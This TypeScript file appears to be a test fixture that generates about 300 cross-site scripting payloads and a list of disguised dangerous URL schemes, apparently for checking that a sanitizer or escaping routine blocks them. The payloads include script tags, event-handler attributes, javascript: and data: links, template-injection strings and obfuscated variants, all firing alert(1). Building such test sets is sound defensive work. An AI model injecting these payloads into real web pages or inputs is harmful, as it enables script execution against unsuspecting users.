/** Says that it ran. */
const RUN = 'alert(1)'

/** Elements and attributes that run a script when text is taken for markup. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src=//x.test></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script>`,
  `<svg><animate onbegin=${RUN}>`,
  `<math><mtext><script>${RUN}</script>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<iframe src=javascript:${RUN}>`,
  `<object data=javascript:${RUN}>`,
  `<embed src=javascript:${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<form action=javascript:${RUN}><button>`,
  `<button formaction=javascript:${RUN}>x`,
  `<details open ontoggle=${RUN}>`,
  `<video src onerror=${RUN}>`,
  `<audio src onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<style>@import"//x.test"</style>`,
  `<link rel=stylesheet href=//x.test>`,
  `<base href=//x.test>`,
  `<meta http-equiv=refresh content="0;//x.test">`,
  `<template><script>${RUN}</script>`,
  `<noscript><img src=x onerror=${RUN}>`,
  `<xmp><img src=x onerror=${RUN}>`,
  `<p style="x:expression(${RUN})">`,
  `<marquee onstart=${RUN}>`,
  `<div onpointerover=${RUN}>x</div>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<<script>${RUN}//<</script>`,
  `<img/src/onerror=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}`,
] as const

/** Text around them: endings of every context that can hold a text. */
const ENDINGS = ['', '">', "'>", '</title>', '</style>', '</textarea>', '-->', ']]>'] as const

/** Texts that attack contexts other than markup. */
const OTHERS = [
  `" onmouseover="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{firstName}<script>${RUN}</script>`,
  `{rules}<img src=x onerror=${RUN}>`,
  `<b onclick=${RUN}>x</b>`,
  `<a href="https://x.test" onclick=${RUN}>x</a>`,
] as const

/** Three hundred texts that run a script wherever text becomes markup, code or an address. */
export const PAYLOADS: readonly string[] = [
  ...OTHERS,
  ...ENDINGS.flatMap(ending => MARKUP.map(markup => ending + markup)),
].slice(0, 300)

const RESERVED = ['javascript', 'data', 'vbscript', 'file', 'blob', 'http', 'ftp', 'ws', 'view-source']
const ADDRESS = `:${RUN}`

/** Addresses of other schemes, plain and in the disguises that browsers see through. */
export const BAD_ADDRESSES: readonly string[] = [
  ...RESERVED.flatMap(scheme => [
    scheme + ADDRESS,
    scheme.toUpperCase() + ADDRESS,
    ` ${scheme}${ADDRESS}`,
    `\u0001${scheme}${ADDRESS}`,
    `${scheme.slice(0, 3)}\t${scheme.slice(3)}${ADDRESS}`,
    `${scheme.slice(0, 3)}\n${scheme.slice(3)}${ADDRESS}`,
    `${scheme.slice(0, 3)}\u0000${scheme.slice(3)}${ADDRESS}`,
    `${scheme}&colon;${RUN}`,
    `&#x${scheme.charCodeAt(0).toString(16)};${scheme.slice(1)}${ADDRESS}`,
    `\u200b${scheme}${ADDRESS}`,
  ]),
  '//x.test',
  '\\\\x.test',
  '/\\x.test',
  'https:x.test/"onclick=alert(1)',
  'https://me:secret@x.test',
  'https://x.test/<script>',
  'https://x.test/ y',
  '#top',
  'x.test',
]
